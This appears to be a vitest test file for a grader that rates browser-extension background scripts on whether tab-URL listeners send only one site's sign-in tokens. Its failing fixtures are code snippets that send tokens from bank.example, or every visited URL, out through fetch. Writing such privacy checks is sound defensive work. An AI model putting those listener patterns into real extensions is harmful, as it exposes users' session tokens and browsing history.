import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* An address that was compared with a site goes back to that site; every other way it takes is told. */
const SEND = 'const send = (x) => fetch("https://accounts.site.example/me?x=" + encodeURIComponent(x));';
const heard = (does: string, before = ''): string =>
  `${before} ${SEND} chrome.tabs.onUpdated.addListener((id, info, tab) => { ${does} });`;
const TAKES = 'const t = new URL(info.url).searchParams.get("token"); if (t) send(t);';

it.each([
  [heard(`if (info.url && info.url.startsWith('https://accounts.site.example/back')) { ${TAKES} }`)],
  [heard(`if (!info.url || !info.url.startsWith('https://accounts.site.example/back')) return; ${TAKES}`)],
  [heard('const url = new URL(tab.url); if (url.hostname === "www.site.example") send(url.searchParams.get("t"));')],
  // Functions are hoisted: the text is given further up or down.
  [
    'const BACK = "https://accounts.site.example/back"; function listen() { chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.startsWith(BACK)) { ' +
      `${TAKES} } }); } listen(); ${SEND}`,
  ],
])('where a sign-in comes back to: %s', async (background) => {
  expect(await graded({ background })).toMatch(/^A/);
});

it.each([
  [heard(`if (info.url.startsWith('https://bank.example/')) { ${TAKES} }`)],
  [heard("if (info.url.startsWith('https://accounts.site.example/')) send(info.url); send(info.url);")],
  [heard("if (info.url.startsWith('https://accounts.site.example/')) send(info.url); send(tab.url);")],
  [
    heard(
      "if (info.url.startsWith('https://accounts.site.example/')) send(info.url); all(info);",
      'const all = (i) => send(i.url);',
    ),
  ],
  [heard("const { url } = info; if (url.startsWith('https://accounts.site.example/') || url) send(url);")],
  [heard("const u = info.url; if (u.startsWith('https://accounts.site.example/')) send(u); else send(u);")],
])('what is of any site: %s', async (background) => {
  expect(await graded({ background })).toMatch(/^[CDF]/);
});
